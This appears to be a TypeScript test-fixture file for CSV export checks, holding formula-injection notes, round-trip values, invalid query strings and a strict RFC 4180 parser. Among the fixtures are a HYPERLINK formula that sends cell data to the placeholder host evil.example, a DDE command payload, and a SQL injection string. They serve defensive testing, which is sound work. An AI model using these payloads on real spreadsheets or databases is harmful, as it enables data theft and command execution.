// Table-driven inputs for the export suites: formula-injection notes (SECURITY.md E1), values that
// must survive a CSV round trip (E2), bad export queries (400 with the field named), and a strict
// RFC 4180 reader that refuses anything a lenient parser would guess at.

/** Notes whose CSV cell must come back prefixed with a single quote. */
export const INJECTION_NOTES: readonly string[] = [
  '=HYPERLINK("https://evil.example/?d="&A2,"x")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTAB first',
  '\rCR first',
];

/** Notes that must parse back identical: delimiters, quotes, line breaks, emoji, RTL and bidi marks. */
export const ROUND_TRIP_NOTES: readonly string[] = [
  'a, b; c',
  'She said "no", then "yes"',
  'line one\nline two\r\nline three',
  '𠮷野家 👩‍👩‍👧 emoji',
  'مرحبا بالعالم RTL',
  'x\u202Ey override',
];

/** [query string, field the 400 must name]. */
export const BAD_QUERIES: ReadonlyArray<[string, string]> = [
  ['', 'format'],
  ['format=pdf', 'format'],
  ['format=csv&tag=rumour', 'tag'],
  ['format=csv&status=done', 'status'],
  ['format=csv&author=bob', 'author'],
  ['format=csv&from=yesterday', 'from'],
  ['format=csv&to=2026-13-45', 'to'],
  ['format=csv&from=2026-03-02&to=2026-03-01', 'to'],
  ['format=csv&includePrivate=all', 'includePrivate'],
  ['format=csv&sort=author.passwordHash', '(body)'],
  ["format=csv&tag=' OR 1=1--", 'tag'],
];

export const BAD_WORKSPACE_QUERIES: ReadonlyArray<[string, string]> = [
  ['format=csv&documentIds=not-a-uuid', 'documentIds.0'],
  ['format=csv&documentIds=', 'documentIds'],
];

/** Parses RFC 4180 text strictly (CRLF records, quoted fields with doubled quotes); throws on anything else. */
export function parseCsvStrict(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const n = text.length;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= n) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (i >= n) throw new Error('the last record must end with CRLF');
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
      if (i === n) return rows;
      continue;
    }
    throw new Error(`a bare line break or stray character at ${i}`);
  }
}
